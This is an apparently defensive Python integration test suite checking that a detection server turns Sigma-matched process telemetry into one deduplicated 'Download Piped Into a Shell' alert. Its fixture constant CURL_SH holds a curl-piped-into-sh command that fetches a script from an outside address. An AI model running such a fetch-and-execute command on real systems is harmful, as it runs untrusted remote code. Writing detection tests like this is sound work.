"""Telemetry that matches a Sigma rule becomes an alert with Defender's fields, deduplicated."""

from __future__ import annotations

import logging

import pytest

from tests.integration.server.test_enrollment import _count
from tests.support import VigilServer, enroll_raw, post_batch, process_event
from vigil.core.clock import SystemClock
from vigil.core.telemetry import validate_events
from vigil.server.ingest import IngestPipeline, RowsByTable
from vigil.store.alerts import NewHit
from vigil.store.db import make_engine

CURL_SH = "sh -c 'curl -fsSL http://203.0.113.9/x.sh | sh'"


def test_matching_events_raise_one_deduplicated_alert(server: VigilServer) -> None:
    dev = enroll_raw(server, server.onboarding_package()["token"], "db-01").json()
    did = dev["device_id"]
    benign = process_event(did, 1, ProcessCommandLine="ls -la /srv")
    bad = [
        process_event(did, 2, Timestamp="2026-11-28T09:00:00Z", ProcessCommandLine=CURL_SH, FileName="sh",
                      FolderPath="/usr/bin/dash", InitiatingProcessFileName="bash", InitiatingProcessId=77),
        process_event(did, 3, Timestamp="2026-11-28T09:10:00Z", ProcessCommandLine=CURL_SH, FileName="sh",
                      FolderPath="/usr/bin/dash"),
    ]
    assert post_batch(server, dev["credential"], [benign, bad[0]]).status_code == 200
    assert post_batch(server, dev["credential"], [bad[1]]).status_code == 200
    with server.client(server.admin_token()) as c:
        alerts = c.get("/api/alerts").json()["value"]
        assert [a["title"] for a in alerts] == ["Download Piped Into a Shell"]
        a = alerts[0]
        assert a["machineId"] == did
        assert a["severity"] == "Medium" and a["status"] == "New"
        assert a["category"] == "Execution" and a["detectionSource"] == "Sigma"
        assert a["mitreTechniques"] == ["T1059.004", "T1105"]
        assert a["eventCount"] == 2
        assert a["firstEventTime"] == "2026-11-28T09:00:00Z" and a["lastEventTime"] == "2026-11-28T09:10:00Z"
        assert a["evidence"][0]["ProcessCommandLine"] == CURL_SH
        assert a["evidence"][0]["InitiatingProcessFileName"] == "bash"
        assert c.get(f"/api/alerts/{a['id']}").json()["id"] == a["id"]
        assert c.get("/api/alerts", params={"severity": "High"}).json()["value"] == []
        assert c.get("/api/alerts", params={"severity": "Severe"}).status_code == 422
        assert c.get("/api/alerts/nope").status_code == 404


def test_a_resent_batch_does_not_raise_the_alert_twice(sqlite_server: VigilServer) -> None:
    server = sqlite_server
    dev = enroll_raw(server, server.onboarding_package()["token"]).json()
    ev = process_event(dev["device_id"], 1, ProcessCommandLine=CURL_SH)
    for _ in range(2):
        assert post_batch(server, dev["credential"], [ev], batch_id="batch-fixed-id").status_code == 200
    with server.client(server.admin_token()) as c:
        alerts = c.get("/api/alerts").json()["value"]
    assert len(alerts) == 1 and alerts[0]["eventCount"] == 1


def test_a_batch_is_not_acknowledged_without_its_alerts(sqlite_server: VigilServer) -> None:
    # Alerts cannot be written (a trigger refuses them): the batch must not be stored either, so the agent
    # keeps it and resends it, and its detection runs again once alerts can be written.
    server = sqlite_server
    dev = enroll_raw(server, server.onboarding_package()["token"]).json()
    ev = process_event(dev["device_id"], 1, ProcessCommandLine=CURL_SH)
    engine = make_engine(f"sqlite:///{server.data_dir / 'vigil.db'}")
    try:
        with engine.begin() as conn:
            conn.exec_driver_sql("CREATE TRIGGER refuse_alerts BEFORE INSERT ON alerts "
                                 "BEGIN SELECT RAISE(ABORT, 'alerts refused by the test'); END")
        refused = post_batch(server, dev["credential"], [ev], batch_id="batch-with-alert")
        assert refused.status_code == 503  # a storage fault, not a duplicate acknowledgement: the agent resends
        assert _count(server) == 0
        with engine.begin() as conn:
            conn.exec_driver_sql("DROP TRIGGER refuse_alerts")
    finally:
        engine.dispose()
    resent = post_batch(server, dev["credential"], [ev], batch_id="batch-with-alert")
    assert resent.json() == {"batch_id": "batch-with-alert", "accepted": 1, "duplicate": False,
                             "rejected": 0, "rejections": []}
    with server.client(server.admin_token()) as c:
        alerts = c.get("/api/alerts").json()["value"]
    assert [(a["title"], a["eventCount"]) for a in alerts] == [("Download Piped Into a Shell", 1)]


class _BrokenDetector:
    def hits(self, device_id: str, rows: RowsByTable) -> list[NewHit]:
        raise RuntimeError("a rule blew up")


def test_a_failing_detector_does_not_cost_the_telemetry(
    sqlite_server: VigilServer, caplog: pytest.LogCaptureFixture,
) -> None:
    server = sqlite_server
    dev = enroll_raw(server, server.onboarding_package()["token"]).json()
    rows = validate_events([process_event(dev["device_id"], i, ProcessCommandLine=CURL_SH) for i in (1, 2)],
                           dev["device_id"])
    engine = make_engine(f"sqlite:///{server.data_dir / 'vigil.db'}")
    try:
        pipeline = IngestPipeline(engine, SystemClock(), _BrokenDetector())
        with caplog.at_level(logging.ERROR, logger="vigil.ingest"):
            ack = pipeline.ingest(dev["device_id"], "batch-broken-detector", rows)
    finally:
        engine.dispose()
    assert (ack.accepted, ack.duplicate) == (2, False)
    assert _count(server) == 2
    assert "detection failed on batch batch-broken-detector" in caplog.text
